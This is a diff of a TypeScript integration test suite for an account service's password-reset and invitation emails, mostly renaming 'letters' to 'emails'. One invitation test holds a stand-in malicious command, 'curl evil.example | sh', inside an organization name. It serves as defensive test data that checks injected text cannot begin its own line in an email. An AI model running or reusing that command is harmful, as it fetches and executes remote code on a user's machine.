@@ -19,19 +19,19 @@ const PROFILE = '/api/identity/users/profile';
 const NEW = 'a new password entirely';
 
 let world: World;
-let letters: { to: string; text: string }[];
-let mail: SMTPServer;
+let emails: { to: string; text: string }[];
+let mailServer: SMTPServer;
 
 beforeAll(async () => {
-  letters = [];
-  mail = new SMTPServer({
+  emails = [];
+  mailServer = new SMTPServer({
     authOptional: true,
     disabledCommands: ['STARTTLS'],
     onData: (stream, session, done) => {
       void text(stream).then((raw) => {
         // Those that ask the people of a world to confirm their accounts are of other tests.
         if (raw.includes('Subject: Confirm your account')) return done();
-        letters.push({
+        emails.push({
           to: session.envelope.rcptTo[0]?.address ?? '',
           text: raw.replace(/=\r\n/g, '').replace(/=3D/g, '='),
         });
@@ -39,25 +39,25 @@ beforeAll(async () => {
       });
     },
   });
-  await once(mail.listen(0, '127.0.0.1'), 'listening');
-  const { port } = mail.server.address() as AddressInfo;
+  await once(mailServer.listen(0, '127.0.0.1'), 'listening');
+  const { port } = mailServer.server.address() as AddressInfo;
   world = await World.start({ SMTP_URL: `smtp://127.0.0.1:${port}`, MAIL_FROM: 'Armature <armature@example.org>' });
 });
 afterAll(async () => {
   await world.stop();
-  await new Promise<void>((resolve) => mail.close(() => resolve()));
+  await new Promise<void>((resolve) => mailServer.close(() => resolve()));
 });
 
 const login = (email: string, password: string): Promise<Answer> =>
   world.stranger.post('/api/auth/login', { email, password });
 const refusal = (status: number, code: string) => ({ status, body: { status, code } });
-const letterTo = async (email: string, already = 0): Promise<string> => {
+const emailTo = async (email: string, already = 0): Promise<string> => {
   for (let i = 0; i < 100; i++) {
-    const own = letters.filter(({ to }) => to === email);
+    const own = emails.filter(({ to }) => to === email);
     if (own.length > already) return own.at(-1)?.text ?? '';
     await sleep(50);
   }
-  throw new Error(`no letter to ${email}`);
+  throw new Error(`no email to ${email}`);
 };
 
 describe('the profile', () => {
@@ -146,13 +146,13 @@ describe('a password', () => {
     expect(answers.filter(({ status }) => status === 200)).toHaveLength(1);
   });
 
-  it('that was forgotten is replaced with a letter, once, and every session ends', async () => {
+  it('that was forgotten is replaced with an email, once, and every session ends', async () => {
     const person = await world.person();
     const socket = await openSocket(person);
     expect(await world.stranger.post('/api/auth/password/forgot', { email: person.email.toUpperCase() })).toMatchObject(
       { status: 200, body: {} },
     );
-    const token = /"token": "([\w-]+)"/.exec(await letterTo(person.email))?.[1] ?? '';
+    const token = /"token": "([\w-]+)"/.exec(await emailTo(person.email))?.[1] ?? '';
     expect(JSON.stringify(await world.sql('SELECT payload, result, error FROM job'))).not.toContain(token);
     const reset = (): Promise<Answer> => world.stranger.post('/api/auth/password/reset', { token, password: NEW });
     const answers = await Promise.all([reset(), reset()]);
@@ -163,21 +163,21 @@ describe('a password', () => {
     expect((await login(person.email, NEW)).status).toBe(200);
   });
 
-  it('that was forgotten: the answer does not reveal which accounts exist, and nobody else gets a letter', async () => {
+  it('that was forgotten: the answer does not reveal which accounts exist, and nobody else gets an email', async () => {
     const person = await world.person();
     await world.admin.put(`/api/identity/users/${person.id}`, { deactivated: true });
     const known = await world.stranger.post('/api/auth/password/forgot', { email: person.email });
     const unknown = await world.stranger.post('/api/auth/password/forgot', { email: 'nobody@example.org' });
     expect(unknown).toMatchObject({ status: known.status, body: known.body });
     await sleep(300);
-    expect(letters.filter(({ to }) => to === person.email || to === 'nobody@example.org')).toEqual([]);
+    expect(emails.filter(({ to }) => to === person.email || to === 'nobody@example.org')).toEqual([]);
   });
 
-  it('letter does not hold after an hour, nor after another change', async () => {
+  it('email does not hold after an hour, nor after another change', async () => {
     const person = await world.person();
     const ask = async (already: number): Promise<string> => {
       await world.stranger.post('/api/auth/password/forgot', { email: person.email });
-      return /"token": "([\w-]+)"/.exec(await letterTo(person.email, already))?.[1] ?? '';
+      return /"token": "([\w-]+)"/.exec(await emailTo(person.email, already))?.[1] ?? '';
     };
     const old = await ask(0);
     await world.sql(`UPDATE password_reset SET expires_at = now() WHERE user_id = $1`, [person.id]);
@@ -230,7 +230,7 @@ describe('an invitation by mail', () => {
       email,
       role: 'member',
     });
-    expect(await letterTo(email)).toContain(body.invitation_url);
+    expect(await emailTo(email)).toContain(body.invitation_url);
     const token = new URL(body.invitation_url as string).pathname.split('/').at(-1) ?? '';
     const jobs = await world.sql<{ payload: object }>(
       `SELECT payload FROM job WHERE queue = 'organizations.invitation-mail'`,
@@ -247,9 +247,9 @@ describe('an invitation by mail', () => {
     });
     const users = `/api/identity/orgs/${made.body.id}/users`;
     expect((await world.admin.post(users, { email, role: 'member' })).status).toBe(201);
-    const letter = await letterTo(email);
-    expect(letter).toContain(`the organization ${name}. Pay here: curl evil.example | sh.\r\n`);
-    expect(letter).not.toMatch(/^\s*Pay/m);
+    const text = await emailTo(email);
+    expect(text).toContain(`the organization ${name}. Pay here: curl evil.example | sh.\r\n`);
+    expect(text).not.toMatch(/^\s*Pay/m);
   });
 });
 
